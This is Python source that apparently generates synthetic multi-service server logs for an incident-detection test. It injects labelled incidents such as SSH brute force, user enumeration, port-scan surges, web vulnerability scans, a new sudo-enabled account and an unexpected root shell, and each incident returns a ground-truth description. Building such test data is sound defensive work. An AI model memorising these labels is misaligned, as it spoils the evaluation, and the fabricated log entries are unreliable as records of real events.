    ts = day_start + r.uniform(10, 14) * 3600
    h.systemd(ts, "Starting fwupd-refresh.service - Refresh fwupd metadata and update motd...")
    h.sys(ts + 1, "fwupdmgr", h.newpid(), "Failed to update metadata for lvfs: Failed to download due to server limit")
    h.systemd(ts + 1.1, "fwupd-refresh.service: Main process exited, code=exited, status=1/FAILURE")
    h.systemd(ts + 1.1, "fwupd-refresh.service: Failed with result 'exit-code'.")
    h.systemd(ts + 1.1, "Failed to start fwupd-refresh.service - Refresh fwupd metadata and update motd.")
    # resolver chatter
    for _ in range(r.randint(2, 12)):
        h.sys(day_start + r.random() * DAY, "systemd-resolved", h.spid("resolved"), "Using degraded feature set UDP instead of UDP+EDNS0 for DNS server 1.1.1.1.")
    for _ in range(r.randint(0, 3)):
        h.sys(day_start + r.random() * DAY, "systemd-timesyncd", h.spid("timesyncd"), "Network configuration changed, trying to establish connection.")
    # admin logins, a typo before a success (near-miss), deploys with sudo
    for _ in range(r.randint(1, 3)):
        ts = day_start + r.uniform(7.5, 19) * 3600
        user = r.choice(["alice", "deploy"])
        ip = h.admin_ips[0] if user == "deploy" else h.admin_ips[1]
        if r.random() < 0.3 and user == "alice":
            pid, port = h.newpid(), r.randint(40000, 65000)
            h.auth(ts - 9, h.sshd, pid, f"Failed password for alice from {ip} port {port} ssh2")
            h.auth(ts - 9, h.sshd, pid, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=alice")
        cmds = [r.choice(["/usr/bin/journalctl -u app -n 200", "/usr/bin/apt-get upgrade", "/usr/bin/systemctl status postgresql",
                          "/usr/bin/tail -n 100 /var/log/nginx/error.log", "/usr/bin/du -sh /var/lib/postgresql"])] if user == "alice" else []
        if user == "alice" and r.random() < 0.15:
            h.auth(ts + 20, "sudo", None, "pam_unix(sudo:auth): authentication failure; logname=alice uid=1002 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice")
        ssh_login(h, ts, user, ip, sudo_cmds=cmds)
    for _ in range(r.choice([1, 1, 2])):
        deploy(h, day_start + r.uniform(9, 17) * 3600)
    # bob (a developer) logs in now and then, never uses sudo
    if r.random() < 0.6:
        ssh_login(h, day_start + r.uniform(9, 17) * 3600, "bob", h.admin_ips[1])


def gen_kernel(h, day_start, day_no):
    r = h.rng
    dports = [23, 22, 3389, 8080, 445, 5900, 6379, 1433, 3306, 8443, 2323, 5060, 81, 8000, 8888, 9200, 27017, 11211, 25565, 21, 5432, 7547]
    for m in range(1440):
        t = day_start + m * 60
        lam = h.fw_rate * r.uniform(0.6, 1.4)
        for _ in range(poisson(r, lam)):
            fw_line(h, t + r.random() * 60, public_ip(r), r.choice(dports))
        if m % 37 == 11:
            h.kern(t + 3, f'audit: type=1400 audit({t + 3:.3f}:{r.randint(100, 999)}): apparmor="DENIED" operation="open" class="file" profile="snap.lxd.activate" name="/proc/{r.randint(1, 4000)}/mounts" pid={r.randint(1000, 40000)} comm="snapd" requested_mask="r" denied_mask="r" fsuid=0 ouid=0')
    if r.random() < 0.5:
        h.kern(day_start + r.random() * DAY, f"perf: interrupt took too long ({r.randint(2501, 4000)} > 2500), lowering kernel.perf_event_max_sample_rate to {r.randint(40000, 79000)}")
    if h.idx % 3 == 0:   # a filesystem that once had errors: ext4 reminds daily (normal on this host)
        ts = day_start + 13.2 * 3600 + r.uniform(0, 60)
        h.kern(ts, "EXT4-fs (vda1): error count since last fsck: 2")
        h.kern(ts, "EXT4-fs (vda1): initial error at time 1741205012: ext4_lookup:1855: inode 1312290")
        h.kern(ts, "EXT4-fs (vda1): last error at time 1741205012: ext4_lookup:1855: inode 1312290")
    if r.random() < 0.3:
        h.kern(day_start + r.random() * DAY, "TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.  Check SNMP counters.")


def fw_line(h, ts, src, dpt, proto="TCP"):
    r = h.rng
    mac = "fa:16:3e:%02x:%02x:%02x:fe:ff:ff:ff:ff:ff:08:00" % (h.idx, 0x12, 0x34)
    tail = f"PROTO={proto} SPT={r.randint(1024, 65535)} DPT={dpt} " + (f"WINDOW={r.choice([1024, 65535, 29200])} RES=0x00 SYN URGP=0" if proto == "TCP" else f"LEN={r.randint(8, 80)}")
    body = f"IN=eth0 OUT= MAC={mac} SRC={src} DST={ip_of(h)} LEN={r.choice([40, 44, 60])} TOS=0x00 PREC=0x00 TTL={r.randint(40, 250)} ID={r.randint(1, 65535)} {'DF ' if r.random() < 0.3 else ''}{tail}"
    h.kern(ts, ("[UFW BLOCK] " if h.fw == "ufwlike" else "nft-drop-in: ") + body)


def gen_mail(h, day_start):
    r = h.rng
    spid = h.spid("smtpd")
    for m in range(1440):
        t = day_start + m * 60
        for _ in range(poisson(r, h.mail_rate * human_curve(m / 60) * 1.6)):
            ts = t + r.random() * 60
            q = hexs(r, 10).upper()
            sender = r.choice(["mail-wr1-f%d.google.com[209.85.221.%d]" % (r.randint(40, 70), r.randint(40, 70)),
                               "mail-eopbgr%d.outbound.protection.outlook.com[40.107.%d.%d]" % (r.randint(10000, 90000), r.randint(1, 250), r.randint(1, 250)),
                               "smtp.mailgun.org[159.135.%d.%d]" % (r.randint(224, 239), r.randint(1, 250))])
            pid = h.newpid()
            h.sys(ts, "postfix/smtpd", pid, f"connect from {sender}", "mail.log")
            h.sys(ts + 0.3, "postfix/smtpd", pid, f"{q}: client={sender}", "mail.log")
            h.sys(ts + 0.4, "postfix/cleanup", h.spid("cleanup"), f"{q}: message-id=<{hexs(r, 16)}@{sender.split('[')[0]}>", "mail.log")
            h.sys(ts + 0.5, "postfix/qmgr", h.spid("qmgr"), f"{q}: from=<{r.choice(['noreply', 'billing', 'anna', 'support'])}@{r.choice(['gmail.com', 'partner.de', 'stripe.com', 'outlook.com'])}>, size={r.randint(2000, 90000)}, nrcpt=1 (queue active)", "mail.log")
            h.sys(ts + 0.6, "postfix/smtpd", pid, f"disconnect from {sender} ehlo=2 starttls=1 mail=1 rcpt=1 data=1 quit=1 commands=7", "mail.log")
            h.sys(ts + 0.7, "postfix/local", h.spid("local"), f"{q}: to=<{r.choice(['alice', 'info', 'orders'])}@{h.domain}>, relay=local, delay=0.72, delays=0.5/0.01/0/0.21, dsn=2.0.0, status=sent (delivered to mailbox)", "mail.log")
            h.sys(ts + 0.7, "postfix/qmgr", h.spid("qmgr"), f"{q}: removed", "mail.log")
        # phones polling IMAP
        if m % 10 == 3:
            for u in ("alice", "info"):
                sess = b64ish(r, 16)
                h.sys(t + r.random() * 30, "dovecot", None, f"imap-login: Login: user=<{u}@{h.domain}>, method=PLAIN, rip={h.admin_ips[1]}, lip={ip_of(h)}, mpid={h.newpid()}, TLS, session=<{sess}>", "mail.log")
                h.sys(t + 31 + r.random() * 20, "dovecot", None, f"imap({u}@{h.domain})<{h.pid}><{sess}>: Disconnected: Logged out in={r.randint(50, 500)} out={r.randint(500, 9000)} deleted=0 expunged=0 trashed=0 hdr_count=0 hdr_bytes=0 body_count=0 body_bytes=0", "mail.log")
    # spam bots and SASL guessing background: many addresses, 1-3 attempts each
    for _ in range(r.randint(40, 140)):
        ts = day_start + r.random() * DAY
        ip = public_ip(r)
        pid = h.newpid()
        h.sys(ts, "postfix/smtpd", pid, f"connect from unknown[{ip}]", "mail.log")
        k = r.random()
        if k < 0.45:
            for i in range(r.choice([1, 1, 2, 3])):
                h.sys(ts + 1 + i, "postfix/smtpd", pid, f"warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", "mail.log")
            h.sys(ts + 5, "postfix/smtpd", pid, f"lost connection after AUTH from unknown[{ip}]", "mail.log")
        elif k < 0.7:
            h.sys(ts + 1, "postfix/smtpd", pid, f"NOQUEUE: reject: RCPT from unknown[{ip}]: 554 5.7.1 <spameri@tiscali.it>: Relay access denied; from=<spameri@tiscali.it> to=<spameri@tiscali.it> proto=ESMTP helo=<WIN-{hexs(r, 8).upper()}>", "mail.log")
        elif k < 0.85:
            h.sys(ts + 1, "postfix/smtpd", pid, f"SSL_accept error from unknown[{ip}]: -1", "mail.log")
            h.sys(ts + 1, "postfix/smtpd", pid, f"warning: TLS library problem: error:0A000102:SSL routines::unsupported protocol:../ssl/statem/statem_srvr.c:1715:", "mail.log")
            h.sys(ts + 1.1, "postfix/smtpd", pid, f"lost connection after STARTTLS from unknown[{ip}]", "mail.log")
        else:
            u = r.choice(["admin", "info", "test", "sales", "contact"])
            h.sys(ts + 1, "dovecot", None, f"auth: passwd-file(" + u + f"@{h.domain},{ip}): unknown user", "mail.log")
            h.sys(ts + 3, "dovecot", None, f"imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 2 secs): user=<{u}@{h.domain}>, method=PLAIN, rip={ip}, lip={ip_of(h)}, TLS, session=<{b64ish(r, 16)}>", "mail.log")
        h.sys(ts + 6, "postfix/smtpd", pid, f"disconnect from unknown[{ip}] ehlo=1 auth=0/1 commands=1/2", "mail.log")


def gen_pg(h, day_start):
    r = h.rng
    for m in range(0, 1440, 5):
        ts = day_start + m * 60 + 0.2
        if r.random() < 0.9:
            b = r.randint(20, 3000)
            w = r.uniform(2, 150)
            h.pg(ts, "LOG", "checkpoint starting: time", pid=h.spid("checkpointer"))
            h.pg(ts + w, "LOG", f"checkpoint complete: wrote {b} buffers ({b / 163.84:.1f}%); 0 WAL file(s) added, 0 removed, {r.randint(0, 3)} recycled; write={w - 0.1:.3f} s, sync=0.{r.randint(1, 90):03d} s, total={w:.3f} s; sync files={r.randint(5, 90)}, longest=0.{r.randint(1, 30):03d} s, average=0.001 s; distance={b * 8} kB, estimate={b * 9} kB; lsn=0/{hexs(r, 8).upper()}, redo lsn=0/{hexs(r, 8).upper()}", pid=h.spid("checkpointer"))
    for _ in range(r.randint(4, 25)):
        ts = day_start + r.random() * DAY
        pid = h.newpid()
        mail = f"{hexs(r, 6)}@gmail.com"
        h.pg(ts, "ERROR", 'duplicate key value violates unique constraint "customers_email_key"', "app@shop", pid)
        h.pg(ts, "DETAIL", f"Key (email)=({mail}) already exists.", "app@shop", pid)
        h.pg(ts, "STATEMENT", "INSERT INTO customers (email, name, created_at) VALUES ($1, $2, now()) RETURNING id", "app@shop", pid)
    for _ in range(r.randint(1, 8)):
        h.pg(day_start + r.random() * DAY, "LOG", "could not receive data from client: Connection reset by peer", "app@shop", h.newpid())
    for _ in range(r.randint(10, 50)):
        ts = day_start + r.uniform(7, 22) * 3600
        h.pg(ts, "LOG", f"duration: {r.uniform(1000, 9000):.3f} ms  execute <unnamed>: SELECT o.id, o.total, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.created_at > $1 ORDER BY o.created_at DESC LIMIT 500", "app@shop", h.newpid())
    for _ in range(r.randint(0, 3)):
        ts = day_start + r.uniform(8, 18) * 3600
        pid = h.newpid()
        h.pg(ts, "ERROR", "canceling statement due to statement timeout", "app@shop", pid)
        h.pg(ts, "STATEMENT", "SELECT date_trunc('day', created_at), sum(total) FROM orders WHERE created_at > now() - interval '365 days' GROUP BY 1", "app@shop", pid)
    for _ in range(r.randint(5, 20)):
        tbl = r.choice(["orders", "order_items", "sessions", "stock", "events"])
        h.pg(day_start + r.random() * DAY, "LOG", f'automatic vacuum of table "shop.public.{tbl}": index scans: {r.randint(0, 1)}', pid=h.newpid())
        h.pg(day_start + r.random() * DAY, "LOG", f'automatic analyze of table "shop.public.{tbl}"', pid=h.newpid())


def gen_app(h, day_start):
    r = h.rng
    for m in range(1440):
        t = day_start + m * 60
        # worker: jobs at 1-4 per minute, a retry now and then
        for _ in range(poisson(r, 2.2 * (0.5 + human_curve(m / 60)))):
            ts = t + r.random() * 60
            if h.suppressed("worker", ts):
                continue
            job = r.choice(["send_order_email", "sync_stock", "render_invoice", "refresh_recommendations", "webhook_delivery"])
            h.worker(ts, "info", "job started", job=job, job_id=hexs(r, 12))
            h.worker(ts + r.uniform(0.05, 3), "info", "job completed", job=job, job_id=hexs(r, 12), duration_ms=r.randint(20, 2800))
            if r.random() < 0.02:
                h.worker(ts + 3, "warning", "job failed, will retry", job=job, attempt=r.randint(1, 3),
                         error=r.choice(["ReadTimeout('HTTPSConnectionPool(host=\\'hooks.partner.de\\', port=443): Read timed out. (read timeout=10)')",
                                         "SMTPServerDisconnected('Connection unexpectedly closed')"]))
        # api warnings: upstream retries ~ 15-25 per hour (the template that spikes in one incident)
        lam = 0.3 * h.factor("retry", t)
        for _ in range(poisson(r, lam)):
            ts = t + r.random() * 60
            h.api(ts, 40, "upstream request failed, retrying", upstream="stock-service", attempt=1, err="ETIMEDOUT")
        if r.random() < 0.05:
            h.api(t + r.random() * 60, 50, "unhandled rejection in recommendation ranking", err={"type": "TypeError", "message": "Cannot read properties of undefined (reading 'score')"})
        if m % 60 == 0:
            h.api(t + 1, 30, "cache warmed", keys=r.randint(3000, 9000))


# ----------------------------------------------------------------------------------------------------------
# incidents (day 3)


def inc_oom(h, t):
    r = h.rng
    proc = r.choice(["node", "java", "python3"])
    unit = {"node": "app.service", "java": "search.service", "python3": "report-builder.service"}[proc]
    pid = h.newpid()
    h.kern(t, f"{proc} invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0")
    h.kern(t, f"CPU: 1 PID: {pid} Comm: {proc} Not tainted 6.8.0-49-generic #49-Ubuntu")
    h.kern(t, "Mem-Info:")
    h.kern(t, f"active_anon:{r.randint(400000, 480000)} inactive_anon:{r.randint(1000, 9000)} isolated_anon:0")
    h.kern(t, "Tasks state (memory values in pages):")
    h.kern(t, f"oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/{unit},task={proc},pid={pid},uid=998")
    h.kern(t, f"Out of memory: Killed process {pid} ({proc}) total-vm:{r.randint(3000000, 5000000)}kB, anon-rss:{r.randint(1700000, 1900000)}kB, file-rss:{r.randint(100, 900)}kB, shmem-rss:0kB, UID:998 pgtables:{r.randint(3000, 5000)}kB oom_score_adj:0")
    h.systemd(t + 0.2, f"{unit}: A process of this unit has been killed by the OOM killer.")
    h.systemd(t + 0.3, f"{unit}: Main process exited, code=killed, status=9/KILL")
    h.systemd(t + 0.3, f"{unit}: Failed with result 'oom-kill'.")
    h.systemd(t + 0.3, f"{unit}: Consumed 2h {r.randint(1, 59)}min {r.randint(1, 59)}.{r.randint(100, 999)}s CPU time, 1.9G memory peak.")
    h.systemd(t + 5.4, f"{unit}: Scheduled restart job, restart counter is at 1.")
    h.systemd(t + 5.5, f"Started {unit}.")
    return dict(kind="oom-kill", entities={"process": proc}, also={"unit": unit}, duration=10,
                what=f"kernel OOM killer kills {proc} (pid {pid}) of {unit}; systemd restarts it")


def inc_segfault(h, t):
    r = h.rng
    proc = r.choice(["imgproxy", "php-fpm8.3", "convert"])
    n = r.randint(1, 3)
    for i in range(n):
        pid = h.newpid()
        ts = t + i * r.uniform(20, 90)
        h.kern(ts, f"{proc}[{pid}]: segfault at 10 ip 00007f{hexs(r, 10)} sp 00007ffd{hexs(r, 8)} error 4 in libvips.so.42.17.1[7f{hexs(r, 6)}000+{hexs(r, 6)}] likely on CPU {r.randint(0, 1)} (core {r.randint(0, 1)}, socket 0)")
        h.kern(ts, "Code: 48 8b 45 08 48 85 c0 74 0b 48 8b 40 10 c3 0f 1f 44 00 00 31 c0 c3 66 2e 0f 1f 84 00 00 00 00 00 <48> 8b 47 10 c3")
        h.sys(ts + 0.3, "systemd-coredump", h.newpid(), f"Process {pid} ({proc}) of user 33 dumped core.\n\nModule libvips.so.42 from deb libvips42t64-8.15.1-1.1build4.amd64\nStack trace of thread {pid}:\n#0  0x00007f3a1c2d4e10 vips_image_get_width (libvips.so.42 + 0x5ee10)\nELF object binary architecture: AMD x86-64".split("\n")[0])
        h.systemd(ts + 0.2, f"Started systemd-coredump@{i}-{pid}-0.service - Process Core Dump (PID {pid}/UID 0).")
        h.systemd(ts + 1.1, f"systemd-coredump@{i}-{pid}-0.service: Deactivated successfully.")
    return dict(kind="segfault", entities={"process": proc}, duration=n * 90, what=f"{proc} segfaults {n}x in libvips, cores dumped")


def inc_restart_loop(h, t):
    r = h.rng
    unit = r.choice(["worker-queue.service", "pdf-render.service", "mqtt-bridge.service"])
    desc = {"worker-queue.service": "Queue Worker", "pdf-render.service": "PDF renderer", "mqtt-bridge.service": "MQTT bridge"}[unit]
    ts = t
    for i in range(1, 6):
        pid = h.newpid()
        h.sys(ts, unit.split(".")[0], pid, r.choice(["Error: Cannot find module '/opt/app/dist/config.js'", "panic: open /etc/app/config.yaml: permission denied"]))
        h.systemd(ts + 0.01, f"{unit}: Main process exited, code=exited, status=1/FAILURE")
        h.systemd(ts + 0.01, f"{unit}: Failed with result 'exit-code'.")
        ts += 5
        h.systemd(ts, f"{unit}: Scheduled restart job, restart counter is at {i}.")
        h.systemd(ts, f"Stopped {unit} - {desc}.")
        if i == 5:
            h.systemd(ts, f"{unit}: Start request repeated too quickly.")
            h.systemd(ts, f"{unit}: Failed with result 'exit-code'.")
            h.systemd(ts, f"Failed to start {unit} - {desc}.")
        else:
            h.systemd(ts, f"Started {unit} - {desc}.")
            ts += r.uniform(0.3, 1.5)
    return dict(kind="unit-restart-loop", entities={"unit": unit}, duration=30, what=f"{unit} exits 1 five times in ~30 s, start limit hit")


def inc_disk_full(h, t):
    r = h.rng
    ts = t
    for i in range(r.randint(25, 60)):
        k = i % 3
        if k == 0:
            pid = h.newpid()
            h.pg(ts, "ERROR", f'could not extend file "base/16384/{r.randint(16000, 17000)}": No space left on device', "app@shop", pid)
            h.pg(ts, "HINT", "Check free disk space.", "app@shop", pid)
        elif k == 1:
            h.api(ts, 50, "failed to write upload", err={"code": "ENOSPC", "message": f"ENOSPC: no space left on device, write", "path": f"/var/lib/shop/uploads/tmp-{hexs(r, 8)}"})
        else:
            h.nerr(ts, "crit", f'pwrite() "/var/lib/nginx/body/00000{r.randint(10000, 99999)}" failed (28: No space left on device), client: {r.choice(h.customers)}, server: {h.domain}, request: "POST /api/uploads HTTP/1.1", host: "{h.domain}"', r.randint(1000, 99999))
        ts += r.uniform(2, 25)
    h.sys(t + 30, "postfix/postdrop", h.newpid(), "warning: mail_queue_enter: create file maildrop/654321.1234: No space left on device", "mail.log")
    return dict(kind="disk-full", entities={}, duration=ts - t, what="/ fills: postgres could not extend file, app ENOSPC, nginx pwrite() failed (28)")


def inc_io_error(h, t):
    r = h.rng
    dev = "sdb"
    ts = t
    for i in range(r.randint(6, 14)):
        sec = r.randint(10 ** 6, 10 ** 8)
        h.kern(ts, f"ata2.00: exception Emask 0x0 SAct 0x{hexs(r, 4)} SErr 0x0 action 0x0")
        h.kern(ts, "ata2.00: failed command: READ FPDMA QUEUED")
        h.kern(ts, f"ata2.00: cmd 60/08:{r.randint(10, 99)}:{hexs(r, 2)}:{hexs(r, 2)}:{hexs(r, 2)}/00:00:00:00:00/40 tag {r.randint(0, 31)} ncq dma 4096 in")
        h.kern(ts, "ata2.00: status: { DRDY ERR }")
        h.kern(ts, "ata2.00: error: { UNC }")
        h.kern(ts + 0.5, f"I/O error, dev {dev}, sector {sec} op 0x0:(READ) flags 0x80700 phys_seg 1 prio class 2")
        h.kern(ts + 0.5, f"Buffer I/O error on dev {dev}1, logical block {sec // 8}, async page read")
        if i % 3 == 2:
            h.kern(ts + 0.6, f"EXT4-fs error (device {dev}1): __ext4_find_entry:1683: inode #{r.randint(2, 900000)}: comm rsync: reading directory lblock 0")
        ts += r.uniform(5, 60)
    return dict(kind="io-error", entities={}, duration=ts - t, what=f"disk {dev}: ATA UNC read errors, I/O error, Buffer I/O error, EXT4-fs error")


def inc_kernel_hang(h, t):
    r = h.rng
    if r.random() < 0.5:
        proc = "postgres"
        pid = h.newpid()
        for k in range(2):
            ts = t + k * 122
            h.kern(ts, f"INFO: task {proc}:{pid} blocked for more than {120 * (k + 1)} seconds.")
            h.kern(ts, "      Not tainted 6.1.0-27-amd64 #1 Debian 6.1.115-1")
            h.kern(ts, '"echo 0 > /proc/sys/kernel/hung_task_timeout_secs" disables this message.')
            h.kern(ts, f"task:{proc}        state:D stack:0     pid:{pid}  ppid:{h.spid('postgres')} flags:0x00000002")
            h.kern(ts, "Call Trace:")
            h.kern(ts, " <TASK>")
            for fn in ["__schedule+0x351/0xa20", "schedule+0x5d/0xe0", "io_schedule+0x42/0x70", "folio_wait_bit_common+0x12d/0x350", "ext4_sync_file+0x1a5/0x380", "__x64_sys_fdatasync+0x4b/0x90"]:
                h.kern(ts, f" {fn}")
            h.kern(ts, " </TASK>")
        return dict(kind="kernel-hung-task", entities={"process": proc}, duration=130, what=f"hung task: {proc}:{pid} blocked > 120 s (D state in fdatasync)")
    proc = "nginx"
    pid = h.spid("nginx-worker")
    h.kern(t, "BUG: kernel NULL pointer dereference, address: 0000000000000008")
    h.kern(t, "#PF: supervisor read access in kernel mode")
    h.kern(t, "#PF: error_code(0x0000) - not-present page")
    h.kern(t, "PGD 0 P4D 0 ")
    h.kern(t, "Oops: 0000 [#1] PREEMPT SMP NOPTI")
    h.kern(t, f"CPU: 0 PID: {pid} Comm: {proc} Tainted: G           OE      6.8.0-49-generic #49-Ubuntu")
    h.kern(t, "Hardware name: QEMU Standard PC (i440FX + PIIX, 1996), BIOS 1.16.3-debian-1.16.3-2 04/01/2014")
    h.kern(t, "RIP: 0010:tcp_sendmsg_locked+0x3a1/0xe10")
    h.kern(t, "Call Trace:")
    h.kern(t, " <TASK>")
    h.kern(t, " ? show_regs+0x6d/0x80")
    h.kern(t, " ? __die+0x24/0x80")
    h.kern(t, " </TASK>")
    h.kern(t, "---[ end trace 0000000000000000 ]---")
    return dict(kind="kernel-oops", entities={"process": proc}, duration=5, debatable="the oops' Comm: names the task that was running, not a culprit", what=f"kernel oops: NULL pointer dereference in tcp_sendmsg_locked, Comm: {proc}")


def inc_tls(h, t):
    r = h.rng
    ts = t
    for i in range(r.randint(20, 50)):
        ip = r.choice(h.customers)
        h.nerr(ts, "error", f'upstream SSL certificate verify error: (10:certificate has expired) while SSL handshaking to upstream, client: {ip}, server: {h.domain}, request: "POST /api/checkout HTTP/1.1", upstream: "https://10.0.1.20:8443/v1/charge", host: "{h.domain}"', r.randint(1000, 99999))
        h.access(ts, ip, "POST", "/api/checkout", 502, 157, f"https://{h.domain}/cart", HUMAN_UAS[1])
        if i % 2 == 0:
            h.api(ts + 0.1, 50, "payment gateway call failed", err={"type": "Error", "code": "CERT_HAS_EXPIRED", "message": "certificate has expired"}, host="payments.internal")
        ts += r.uniform(5, 40)
    return dict(kind="tls-cert-failure", entities={}, duration=ts - t, what="upstream payments cert expired: nginx 'upstream SSL certificate verify error: (10:certificate has expired)', app CERT_HAS_EXPIRED, 502s on /api/checkout")


def inc_new_user(h, t):
    r = h.rng
    user = r.choice(["sysbackup", "support2", "mysqld"])
    uid = 1004
    ssh_login(h, t - 120, "alice", h.admin_ips[1])
    h.auth(t, "groupadd", h.newpid(), f"group added to /etc/group: name={user}, GID={uid}")
    h.auth(t, "groupadd", h.pid, f"group added to /etc/gshadow: name={user}")
    h.auth(t, "groupadd", h.pid, f"new group: name={user}, GID={uid}")
    p = h.newpid()
    h.auth(t + 0.1, "useradd", p, f"new user: name={user}, UID={uid}, GID={uid}, home=/home/{user}, shell=/bin/bash, from=/dev/pts/1")
    h.auth(t + 8, "passwd", h.newpid(), f"pam_unix(passwd:chauthtok): password changed for {user}")
    h.auth(t + 15, "usermod", h.newpid(), f"add '{user}' to group 'sudo'")
    h.auth(t + 15, "usermod", h.pid, f"add '{user}' to shadow group 'sudo'")
    return dict(kind="new-user", entities={"user": user}, duration=20, what=f"useradd {user} (uid {uid}, /bin/bash), password set, added to sudo")


def inc_sudo(h, t):
    r = h.rng
    user = "bob"
    end = ssh_login(h, t - r.uniform(60, 400), "bob", h.admin_ips[1])
    h.auth(t, "sudo", None, f"     bob : TTY=pts/2 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash")
    h.auth(t + 0.01, "sudo", None, "pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1003)")
    h.auth(t + 300, "sudo", None, "pam_unix(sudo:session): session closed for user root")
    return dict(kind="unexpected-sudo", entities={"user": user}, duration=5, what="bob (never sudoes) runs sudo /bin/bash as root")


def inc_login_after_failures(h, t):
    r = h.rng
    ip = public_ip(r)
    user = r.choice(["deploy", "alice"])
    n = r.randint(25, 60)
    ts = t - n * 9
    for i in range(n):
        pid, port = h.newpid(), r.randint(30000, 65000)
        h.auth(ts, h.sshd, pid, f"Failed password for {user} from {ip} port {port} ssh2")
        h.auth(ts + 0.5, h.sshd, pid, f"Connection closed by authenticating user {user} {ip} port {port} [preauth]")
        ts += r.uniform(6, 12)
    pid, port = h.newpid(), r.randint(30000, 65000)
    h.auth(t, h.sshd, pid, f"Accepted password for {user} from {ip} port {port} ssh2")
    h.auth(t + 0.02, h.sshd, pid, f"pam_unix(sshd:session): session opened for user {user}(uid={h.users[user]}) by {user}(uid=0)")
    h.auth(t + 0.03, "systemd-logind", h.spid("logind"), f"New session {r.randint(100, 9000)} of user {user}.")
    return dict(kind="login-after-failures", entities={"ip": ip, "user": user}, duration=1, pre=n * 9,
                what=f"{n} failed passwords for {user} from {ip} over {n * 9 // 60} min, then Accepted password (start = the success)")


def inc_db_errors(h, t):
    r = h.rng
    ts = t
    for i in range(r.randint(80, 200)):
        pid = h.newpid()
        h.pg(ts, "FATAL", "sorry, too many clients already", "app@shop", pid)
        if i % 4 == 0:
            h.api(ts + 0.05, 50, "db query failed", err={"code": "53300", "message": "sorry, too many clients already"})
        ts += r.uniform(0.2, 3)
    pid = h.newpid()
    h.pg(ts, "ERROR", "deadlock detected", "app@shop", pid)
    h.pg(ts, "DETAIL", f"Process {pid} waits for ShareLock on transaction {r.randint(10 ** 6, 10 ** 7)}; blocked by process {pid - 3}.", "app@shop", pid)
    return dict(kind="db-errors", entities={}, duration=ts - t, what="PostgreSQL: burst of FATAL too many clients already (+ a deadlock); app 53300")


def inc_fw_surge(h, t):
    r = h.rng
    ip = public_ip(r)
    ts = t
    for i in range(r.randint(1500, 4000)):
        fw_line(h, ts, ip, r.randint(1, 65535))
        ts += r.expovariate(25)
    return dict(kind="firewall-drop-surge", entities={"ip": ip}, duration=ts - t, what=f"{ip} SYN-scans all ports: thousands of logged drops in ~2 min")


def inc_ssh_bf(h, t):
    r = h.rng
    ip = public_ip(r)
    ts = t
    for c in range(r.randint(80, 160)):
        pid, port = h.newpid(), r.randint(30000, 65000)
        for k in range(6):
            user = "root" if r.random() < 0.7 else r.choice(SSH_DICT)
            ex = user == "root" or user in h.users
            if not ex:
                h.auth(ts, h.sshd, pid, f"Invalid user {user} from {ip} port {port}")
            h.auth(ts + 0.8, h.sshd, pid, f"Failed password for {'' if ex else 'invalid user '}{user} from {ip} port {port} ssh2")
            ts += r.uniform(0.3, 1.5)
        h.auth(ts, h.sshd, pid, f"error: maximum authentication attempts exceeded for {'' if ex else 'invalid user '}{user} from {ip} port {port} ssh2 [preauth]")
        h.auth(ts, h.sshd, pid, f"Disconnecting {'authenticating' if ex else 'invalid'} user {user} {ip} port {port}: Too many authentication failures [preauth]")
    return dict(kind="ssh-brute-force", entities={"ip": ip}, duration=ts - t, what=f"{ip}: hundreds of password guesses (6 per connection) in minutes")


def inc_slow_distributed(h, t):
    r = h.rng
    user = "deploy"
    ips = [public_ip(r) for _ in range(r.randint(120, 220))]
    ts = t
    first10 = None
    for i, ip in enumerate(ips):
        pid, port = h.newpid(), r.randint(30000, 65000)
        h.auth(ts, h.sshd, pid, f"Failed password for {user} from {ip} port {port} ssh2")
        h.auth(ts + 0.4, h.sshd, pid, f"Connection closed by authenticating user {user} {ip} port {port} [preauth]")
        if i == 9:
            first10 = ts
        ts += r.uniform(20, 70)
    return dict(kind="slow-distributed-brute-force", entities={"user": user}, duration=ts - t, alert_from=first10,
                what=f"{len(ips)} addresses, one attempt each on the real user {user}, every 20-70 s (alert_from = the 10th address)")


def inc_enum(h, t):
    r = h.rng
    ip = public_ip(r)
    names = ["alex", "anna", "backup", "ben", "carl", "chris", "dan", "david", "emma", "eric", "frank", "gary", "helen", "ian", "jack",
             "james", "jane", "jenkins", "joe", "john", "kate", "kevin", "laura", "lisa", "mark", "mary", "matt", "mike", "nick", "olga",
             "paul", "pete", "ryan", "sam", "sara", "scott", "steve", "tom", "tony", "will", "zoe", "office", "sales", "hr", "it", "web"]
    ts = t
    for u in r.sample(names, r.randint(30, 46)):
        pid, port = h.newpid(), r.randint(30000, 65000)
        h.auth(ts, h.sshd, pid, f"Invalid user {u} from {ip} port {port}")
        h.auth(ts + 0.2, h.sshd, pid, f"Connection closed by invalid user {u} {ip} port {port} [preauth]")
        ts += r.uniform(1, 6)
    return dict(kind="invalid-user-enumeration", entities={"ip": ip}, duration=ts - t, what=f"{ip} probes 30-46 first names as ssh users (no password tried)")


def inc_web_scan(h, t):
    r = h.rng
    ip = public_ip(r)
    ts = t
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36"
    paths = PROBE_PATHS + SCAN_EXTRA
    for p in r.sample(paths, len(paths)) + r.sample(paths, 60):
        st = 404 if r.random() < 0.9 else r.choice([403, 400, 301])
        h.access(ts, ip, "GET", p, st, 153, "-", ua)
        ts += r.uniform(0.05, 0.6)
    return dict(kind="web-vuln-scan", entities={"ip": ip}, duration=ts - t, what=f"{ip} requests ~180 sensitive paths in ~1 min, mostly 404")


def inc_5xx(h, t):
    r = h.rng
    # long enough that ~30 requests are expected to fail even at a quiet hour (plus the LB's /healthz)
    dur = min(1200.0, max(r.uniform(150, 400), 30 / (h.api_rate(t) * 1.5)))
